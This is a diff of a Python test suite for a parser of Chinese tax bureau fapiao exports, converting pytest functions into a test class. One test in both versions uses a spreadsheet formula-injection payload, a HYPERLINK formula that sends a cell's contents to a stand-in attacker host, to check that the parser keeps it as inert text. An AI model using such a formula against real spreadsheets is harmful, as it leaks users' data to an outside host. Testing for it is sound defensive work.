@@ -5,14 +5,13 @@ import io
 from datetime import date, datetime
 from decimal import Decimal
 
-import pytest
-from hypothesis import HealthCheck, given, settings
-from hypothesis import strategies as st
 from openpyxl import Workbook
 from openpyxl.utils.exceptions import IllegalCharacterError
 
 from ..tools import bureau_export as be
 from ..tools.rule_error import FapiaoRuleError
+from .fuzzing import HealthCheck, given, settings, st
+from .tools_case import ToolsCase, parametrize
 
 SELLER = "91350100M000100Y43"
 BUYER = "91110000600037341L"
@@ -50,14 +49,6 @@ def parse_ok(data):
     return parsed.rows
 
 
-def refused(data, *texts):
-    with pytest.raises(be.ExportError) as caught:
-        be.parse_export(data)
-    for text in texts:
-        assert text in str(caught.value), str(caught.value)
-    return str(caught.value)
-
-
 def errors_of(data):
     return [str(e) for e in be.parse_export(data).errors]
 
@@ -70,212 +61,6 @@ def grid_xlsx(rows, sheet=be.BASIC_SHEET):
     out = io.BytesIO()
     book.save(out)
     return out.getvalue()
-
-
-# --- a real-shaped file ---------------------------------------------------------------------------
-
-
-def test_xlsx_with_title_rows_and_footer():
-    data = be.write_export_xlsx([row(), row(digital_number="26442000000000000002")])
-    rows = parse_ok(data)
-    assert [r.row for r in rows] == [4, 5]  # two title rows, header on row 3
-    first = rows[0]
-    assert (first.digital_number, first.key) == (
-        "26442000000000000001",
-        ("", "26442000000000000001"),
-    )
-    assert first.issue_date == date(2026, 10, 15)
-    assert (first.amount_untaxed, first.amount_tax, first.amount_total) == (
-        Decimal("100.00"), Decimal("13.00"), Decimal("113.00"),
-    )  # fmt: skip
-    assert (first.status, first.is_red, first.kind) == ("normal", False, "digital_general")
-    assert first.buyer_name == "北京买方(中国)有限公司"  # full-width brackets normalised
-
-
-def test_columns_by_name_not_position_and_header_variants():
-    header = ["购买方名称", "价税合计", "税额", "金额(元)", "开票日期", "销方纳税人识别号",
-              "购方纳税人识别号", "发票状态", "数电票号码", "发票票种"]  # fmt: skip
-    values = ["买方", 113, 13, 100, "2026/10/15", SELLER, BUYER, "正常", "26442000000000000001",
-              "电子发票(普通发票)"]  # fmt: skip
-    rows = parse_ok(grid_xlsx([["标题"], header, values]))
-    assert rows[0].digital_number == "26442000000000000001"
-    assert rows[0].amount_total == Decimal("113.00")
-
-
-def test_excel_numeric_ids_are_repaired_or_flagged():
-    data = be.write_export_xlsx(
-        [
-            row(digital_number="", code=32001900104, number=1234567.0, kind="vat_general"),
-            row(digital_number=26442000000000000003),  # Excel's float: last digits lost
-        ]
-    )
-    legacy, rounded = parse_ok(data)
-    assert (legacy.code, legacy.number) == (
-        "032001911300",
-        "01234567",
-    ) or legacy.number == "01234567"
-    assert rounded.digital_number == ""
-    assert rounded.rounded_number == be.excel_rounded("26442000000000000003")
-    assert rounded.key == ("~", rounded.rounded_number)
-
-
-def test_rounded_number_text_in_csv():
-    rows = parse_ok(be.write_export_csv([row(digital_number="2.6442E+19")]))
-    assert rows[0].rounded_number == "26442000000000000000"
-
-
-@pytest.mark.parametrize(
-    "value, expected",
-    [
-        (46310, date(2026, 10, 15)),
-        ("46310", date(2026, 10, 15)),
-        (datetime(2026, 10, 15, 8, 0), date(2026, 10, 15)),
-        ("2026-10-15 08:00:00", date(2026, 10, 15)),
-        ("2026年10月15日", date(2026, 10, 15)),
-        ("20261015", date(2026, 10, 15)),
-    ],
-)
-def test_dates_as_text_or_serial(value, expected):
-    assert be.parse_date(value) == expected
-
-
-@pytest.mark.parametrize("value", ["2026-13-01", "yesterday", 12, "", None])
-def test_bad_dates_are_refused(value):
-    with pytest.raises(FapiaoRuleError):
-        be.parse_date(value)
-
-
-@pytest.mark.parametrize(
-    "value, rate, exempt",
-    [("13%", "13", False), (13, "13", False), (0.13, "13", False), ("0.06", "6", False),
-     ("1.5%", "1.5", False), (0.015, "1.5", False), ("免税", "0", True), ("***", "0", True),
-     (0, "0", False)],
-)  # fmt: skip
-def test_rates(value, rate, exempt):
-    assert be.parse_rate(value) == (Decimal(rate), exempt)
-
-
-@pytest.mark.parametrize("value", [0.5, "50%", "abc", "", 7])
-def test_bad_rates_are_refused(value):
-    with pytest.raises(FapiaoRuleError):
-        be.parse_rate(value)
-
-
-def test_rates_from_the_detail_sheet():
-    data = be.write_export_xlsx(
-        [row(), row(digital_number="26442000000000000002")],
-        details=[
-            {"digital_number": "26442000000000000001", "tax_rate": "13%"},
-            {"digital_number": "26442000000000000001", "tax_rate": 0.13},
-            {"digital_number": "26442000000000000002", "tax_rate": 13},
-            {"digital_number": "26442000000000000002", "tax_rate": "6%"},
-        ],
-    )
-    one, two = parse_ok(data)
-    assert (one.tax_rates, one.tax_rate) == ((Decimal(13),), Decimal(13))
-    assert (two.tax_rates, two.tax_rate) == ((Decimal(6), Decimal(13)), None)
-
-
-@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
-def test_csv_encodings(encoding):
-    data = be.write_export_csv([row(), row(digital_number="26442000000000000002")], encoding)
-    rows = parse_ok(data)
-    assert [r.digital_number for r in rows] == ["26442000000000000001", "26442000000000000002"]
-    assert rows[0].buyer_name == "北京买方(中国)有限公司"
-
-
-def test_csv_tab_separated():
-    text = be.write_export_csv([row()], "utf-8").decode().replace(",", "\t")
-    assert parse_ok(text.encode())[0].seller_vat == SELLER
-
-
-def test_red_and_void_rows():
-    red = row(amount_untaxed="-100", amount_tax="-13", amount_total="-113", is_red=True)
-    void = row(digital_number="", code="3200191130", number="00000002", kind="vat_special",
-               status="void")  # fmt: skip
-    full = row(digital_number="26442000000000000009", status="已红冲-全额")
-    red_row, void_row, full_row = parse_ok(be.write_export_xlsx([red, void, full]))
-    assert red_row.is_red and red_row.amount_total == Decimal("-113.00")
-    assert void_row.status == "void" and void_row.key == ("3200191130", "00000002")
-    assert full_row.status == "red_full"
-
-
-def test_formula_injection_is_kept_as_inert_text():
-    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
-    rows = parse_ok(be.write_export_xlsx([row(buyer_name=formula, seller_name="<b>x</b>")]))
-    assert rows[0].buyer_name == formula.replace("（", "(")
-    assert rows[0].seller_name == "<b>x</b>"
-    rows = parse_ok(be.write_export_csv([row(buyer_name=formula)]))
-    assert rows[0].buyer_name == formula
-
-
-def test_formula_in_an_amount_is_a_row_error_not_evaluated():
-    errors = errors_of(be.write_export_xlsx([row(amount_total="=100+13")]))
-    assert len(errors) == 1 and "row 4" in errors[0] and "=100+13" in errors[0]
-
-
-# --- errors -----------------------------------------------------------------------------------
-
-
-def test_every_unusable_row_is_named_with_sheet_and_row():
-    data = be.write_export_xlsx(
-        [
-            row(),
-            row(digital_number="26442000000000000002", issue_date="someday"),
-            row(digital_number="26442000000000000003", status="丢失"),
-            row(digital_number="26442000000000000004", amount_total="200"),
-            row(digital_number="26442000000000000001"),  # duplicate
-            row(digital_number="", number=""),
-            row(digital_number="26442000000000000005", is_red=True),  # 否 with positive total
-        ]
-    )
-    errors = errors_of(data)
-    assert len(errors) == 6, errors
-    for number, error in zip((5, 6, 7, 8, 9, 10), errors, strict=True):
-        assert f"Sheet 发票基础信息, row {number}:" in error
-
-
-def test_empty_file():
-    refused(b"", "empty")
-    refused(b"   \r\n", "empty")
-
-
-def test_binary_garbage():
-    refused(bytes(range(256)) * 10, "neither an Excel workbook")
-
-
-def test_damaged_xlsx():
-    refused(b"PK\x03\x04" + b"\x00" * 100, "cannot be read")
-
-
-def test_old_xls():
-    refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, ".xls")
-
-
-def test_oversized_file_is_refused_before_parsing():
-    refused(b"a" * (be.MAX_BYTES + 1), "MB")
-
-
-def test_wrong_columns():
-    refused(grid_xlsx([["name", "amount"], ["x", 1]]), "not a 全量发票查询 export")
-    refused(b"a,b,c\n1,2,3\n", "not a 全量发票查询 export")
-
-
-def test_header_missing_required_columns():
-    message = refused(grid_xlsx([["发票号码", "发票代码", "金额", "税额", "开票日期"]]), "row 1")
-    assert "价税合计" in message and "发票状态" in message
-
-
-def test_header_without_rows():
-    refused(be.write_export_xlsx([]), "no fapiao rows")
-
-
-def test_workbook_without_the_sheet():
-    book = Workbook()
-    book.create_sheet("其他")
-    out = io.BytesIO()
-    book.save(out)
-    refused(out.getvalue(), be.BASIC_SHEET)
 
 
 # --- fuzzing: no input may crash the parser ----------------------------------------------------
@@ -309,46 +94,238 @@ def _survives(data):
         assert parsed_row.key[1]
 
 
-@FUZZ
-@given(st.binary(max_size=2000))
-def test_fuzz_random_bytes(data):
-    _survives(data)
+class TestBureauExport(ToolsCase):
+    """The bureau export parser and writer."""
 
+    def refused(self, data, *texts):
+        with self.assertRaises(be.ExportError) as caught:
+            be.parse_export(data)
+        for text in texts:
+            assert text in str(caught.exception), str(caught.exception)
+        return str(caught.exception)
 
-@FUZZ
-@given(st.binary(max_size=300), st.sampled_from([b"PK\x03\x04", b"\xef\xbb\xbf", b"", b"\xd0\xcf"]))
-def test_fuzz_damaged_headers_and_archives(tail, head):
-    _survives(head + tail)
+    # --- a real-shaped file ---------------------------------------------------------------------------
 
+    def test_xlsx_with_title_rows_and_footer(self):
+        data = be.write_export_xlsx([row(), row(digital_number="26442000000000000002")])
+        rows = parse_ok(data)
+        assert [r.row for r in rows] == [4, 5]  # two title rows, header on row 3
+        first = rows[0]
+        assert (first.digital_number, first.key) == (
+            "26442000000000000001",
+            ("", "26442000000000000001"),
+        )
+        assert first.issue_date == date(2026, 10, 15)
+        assert (first.amount_untaxed, first.amount_tax, first.amount_total) == (
+            Decimal("100.00"), Decimal("13.00"), Decimal("113.00"),
+        )  # fmt: skip
+        assert (first.status, first.is_red, first.kind) == ("normal", False, "digital_general")
+        assert first.buyer_name == "北京买方(中国)有限公司"  # full-width brackets normalised
 
-@FUZZ
-@given(
-    st.lists(st.dictionaries(st.sampled_from(be.BASIC_COLUMNS), CELL, max_size=8), max_size=6),
-    st.sampled_from(["utf-8", "utf-8-sig", "gb18030"]),
-)
-def test_fuzz_csv_cells(rows, encoding):
-    values = [row(**{k: ("" if v is None else v) for k, v in r.items()}) for r in rows]
-    try:
-        data = be.write_export_csv(values, encoding)
-    except UnicodeEncodeError:
-        data = be.write_export_csv(values, "utf-8")  # text GB18030 cannot hold
-    _survives(data)
+    def test_columns_by_name_not_position_and_header_variants(self):
+        header = ["购买方名称", "价税合计", "税额", "金额(元)", "开票日期", "销方纳税人识别号",
+                  "购方纳税人识别号", "发票状态", "数电票号码", "发票票种"]  # fmt: skip
+        values = ["买方", 113, 13, 100, "2026/10/15", SELLER, BUYER, "正常", "26442000000000000001",
+                  "电子发票(普通发票)"]  # fmt: skip
+        rows = parse_ok(grid_xlsx([["标题"], header, values]))
+        assert rows[0].digital_number == "26442000000000000001"
+        assert rows[0].amount_total == Decimal("113.00")
 
+    def test_excel_numeric_ids_are_repaired_or_flagged(self):
+        data = be.write_export_xlsx(
+            [
+                row(digital_number="", code=32001900104, number=1234567.0, kind="vat_general"),
+                row(digital_number=26442000000000000003),  # Excel's float: last digits lost
+            ]
+        )
+        legacy, rounded = parse_ok(data)
+        assert (legacy.code, legacy.number) == (
+            "032001911300",
+            "01234567",
+        ) or legacy.number == "01234567"
+        assert rounded.digital_number == ""
+        assert rounded.rounded_number == be.excel_rounded("26442000000000000003")
+        assert rounded.key == ("~", rounded.rounded_number)
 
-@FUZZ
-@given(st.lists(st.dictionaries(st.sampled_from(be.BASIC_COLUMNS), CELL, max_size=8), max_size=5))
-def test_fuzz_xlsx_cells(rows):
-    values = [row(**r) for r in rows]
-    try:
-        data = be.write_export_xlsx(values)
-    except (ValueError, IllegalCharacterError):
-        return  # openpyxl refuses to write some control characters: not an input we can get
-    _survives(data)
+    def test_rounded_number_text_in_csv(self):
+        rows = parse_ok(be.write_export_csv([row(digital_number="2.6442E+19")]))
+        assert rows[0].rounded_number == "26442000000000000000"
 
+    @parametrize(
+        "value, expected",
+        [
+            (46310, date(2026, 10, 15)),
+            ("46310", date(2026, 10, 15)),
+            (datetime(2026, 10, 15, 8, 0), date(2026, 10, 15)),
+            ("2026-10-15 08:00:00", date(2026, 10, 15)),
+            ("2026年10月15日", date(2026, 10, 15)),
+            ("20261015", date(2026, 10, 15)),
+        ],
+    )
+    def test_dates_as_text_or_serial(self, value, expected):
+        assert be.parse_date(value) == expected
 
-@FUZZ
-@given(st.lists(st.lists(CELL.map(str), max_size=12), max_size=8))
-def test_fuzz_csv_grids(grid):
-    out = io.StringIO()
-    csv.writer(out).writerows([list(be.COLUMN_LABELS.values())[:12], *grid])
-    _survives(out.getvalue().encode("utf-8", "surrogatepass"))
+    @parametrize("value", ["2026-13-01", "yesterday", 12, "", None])
+    def test_bad_dates_are_refused(self, value):
+        with self.assertRaises(FapiaoRuleError):
+            be.parse_date(value)
+
+    @parametrize(
+        "value, rate, exempt",
+        [("13%", "13", False), (13, "13", False), (0.13, "13", False), ("0.06", "6", False),
+         ("1.5%", "1.5", False), (0.015, "1.5", False), ("免税", "0", True), ("***", "0", True),
+         (0, "0", False)],
+    )  # fmt: skip
+    def test_rates(self, value, rate, exempt):
+        assert be.parse_rate(value) == (Decimal(rate), exempt)
+
+    @parametrize("value", [0.5, "50%", "abc", "", 7])
+    def test_bad_rates_are_refused(self, value):
+        with self.assertRaises(FapiaoRuleError):
+            be.parse_rate(value)
+
+    def test_rates_from_the_detail_sheet(self):
+        data = be.write_export_xlsx(
+            [row(), row(digital_number="26442000000000000002")],
+            details=[
+                {"digital_number": "26442000000000000001", "tax_rate": "13%"},
+                {"digital_number": "26442000000000000001", "tax_rate": 0.13},
+                {"digital_number": "26442000000000000002", "tax_rate": 13},
+                {"digital_number": "26442000000000000002", "tax_rate": "6%"},
+            ],
+        )
+        one, two = parse_ok(data)
+        assert (one.tax_rates, one.tax_rate) == ((Decimal(13),), Decimal(13))
+        assert (two.tax_rates, two.tax_rate) == ((Decimal(6), Decimal(13)), None)
+
+    @parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
+    def test_csv_encodings(self, encoding):
+        data = be.write_export_csv([row(), row(digital_number="26442000000000000002")], encoding)
+        rows = parse_ok(data)
+        assert [r.digital_number for r in rows] == ["26442000000000000001", "26442000000000000002"]
+        assert rows[0].buyer_name == "北京买方(中国)有限公司"
+
+    def test_csv_tab_separated(self):
+        text = be.write_export_csv([row()], "utf-8").decode().replace(",", "\t")
+        assert parse_ok(text.encode())[0].seller_vat == SELLER
+
+    def test_red_and_void_rows(self):
+        red = row(amount_untaxed="-100", amount_tax="-13", amount_total="-113", is_red=True)
+        void = row(digital_number="", code="3200191130", number="00000002", kind="vat_special",
+                   status="void")  # fmt: skip
+        full = row(digital_number="26442000000000000009", status="已红冲-全额")
+        red_row, void_row, full_row = parse_ok(be.write_export_xlsx([red, void, full]))
+        assert red_row.is_red and red_row.amount_total == Decimal("-113.00")
+        assert void_row.status == "void" and void_row.key == ("3200191130", "00000002")
+        assert full_row.status == "red_full"
+
+    def test_formula_injection_is_kept_as_inert_text(self):
+        formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+        rows = parse_ok(be.write_export_xlsx([row(buyer_name=formula, seller_name="<b>x</b>")]))
+        assert rows[0].buyer_name == formula.replace("（", "(")
+        assert rows[0].seller_name == "<b>x</b>"
+        rows = parse_ok(be.write_export_csv([row(buyer_name=formula)]))
+        assert rows[0].buyer_name == formula
+
+    def test_formula_in_an_amount_is_a_row_error_not_evaluated(self):
+        errors = errors_of(be.write_export_xlsx([row(amount_total="=100+13")]))
+        assert len(errors) == 1 and "row 4" in errors[0] and "=100+13" in errors[0]
+
+    # --- errors -----------------------------------------------------------------------------------
+
+    def test_every_unusable_row_is_named_with_sheet_and_row(self):
+        data = be.write_export_xlsx(
+            [
+                row(),
+                row(digital_number="26442000000000000002", issue_date="someday"),
+                row(digital_number="26442000000000000003", status="丢失"),
+                row(digital_number="26442000000000000004", amount_total="200"),
+                row(digital_number="26442000000000000001"),  # duplicate
+                row(digital_number="", number=""),
+                row(digital_number="26442000000000000005", is_red=True),  # 否 with positive total
+            ]
+        )
+        errors = errors_of(data)
+        assert len(errors) == 6, errors
+        for number, error in zip((5, 6, 7, 8, 9, 10), errors, strict=True):
+            assert f"Sheet 发票基础信息, row {number}:" in error
+
+    def test_empty_file(self):
+        self.refused(b"", "empty")
+        self.refused(b"   \r\n", "empty")
+
+    def test_binary_garbage(self):
+        self.refused(bytes(range(256)) * 10, "neither an Excel workbook")
+
+    def test_damaged_xlsx(self):
+        self.refused(b"PK\x03\x04" + b"\x00" * 100, "cannot be read")
+
+    def test_old_xls(self):
+        self.refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, ".xls")
+
+    def test_oversized_file_is_refused_before_parsing(self):
+        self.refused(b"a" * (be.MAX_BYTES + 1), "MB")
+
+    def test_wrong_columns(self):
+        self.refused(grid_xlsx([["name", "amount"], ["x", 1]]), "not a 全量发票查询 export")
+        self.refused(b"a,b,c\n1,2,3\n", "not a 全量发票查询 export")
+
+    def test_header_missing_required_columns(self):
+        message = self.refused(
+            grid_xlsx([["发票号码", "发票代码", "金额", "税额", "开票日期"]]), "row 1"
+        )
+        assert "价税合计" in message and "发票状态" in message
+
+    def test_header_without_rows(self):
+        self.refused(be.write_export_xlsx([]), "no fapiao rows")
+
+    def test_workbook_without_the_sheet(self):
+        book = Workbook()
+        book.create_sheet("其他")
+        out = io.BytesIO()
+        book.save(out)
+        self.refused(out.getvalue(), be.BASIC_SHEET)
+
+    @FUZZ
+    @given(st.binary(max_size=2000))
+    def test_fuzz_random_bytes(self, data):
+        _survives(data)
+
+    @FUZZ
+    @given(
+        st.binary(max_size=300), st.sampled_from([b"PK\x03\x04", b"\xef\xbb\xbf", b"", b"\xd0\xcf"])
+    )
+    def test_fuzz_damaged_headers_and_archives(self, tail, head):
+        _survives(head + tail)
+
+    @FUZZ
+    @given(
+        st.lists(st.dictionaries(st.sampled_from(be.BASIC_COLUMNS), CELL, max_size=8), max_size=6),
+        st.sampled_from(["utf-8", "utf-8-sig", "gb18030"]),
+    )
+    def test_fuzz_csv_cells(self, rows, encoding):
+        values = [row(**{k: ("" if v is None else v) for k, v in r.items()}) for r in rows]
+        try:
+            data = be.write_export_csv(values, encoding)
+        except UnicodeEncodeError:
+            data = be.write_export_csv(values, "utf-8")  # text GB18030 cannot hold
+        _survives(data)
+
+    @FUZZ
+    @given(
+        st.lists(st.dictionaries(st.sampled_from(be.BASIC_COLUMNS), CELL, max_size=8), max_size=5)
+    )
+    def test_fuzz_xlsx_cells(self, rows):
+        values = [row(**r) for r in rows]
+        try:
+            data = be.write_export_xlsx(values)
+        except (ValueError, IllegalCharacterError):
+            return  # openpyxl refuses to write some control characters: not an input we can get
+        _survives(data)
+
+    @FUZZ
+    @given(st.lists(st.lists(CELL.map(str), max_size=12), max_size=8))
+    def test_fuzz_csv_grids(self, grid):
+        out = io.StringIO()
+        csv.writer(out).writerows([list(be.COLUMN_LABELS.values())[:12], *grid])
+        _survives(out.getvalue().encode("utf-8", "surrogatepass"))
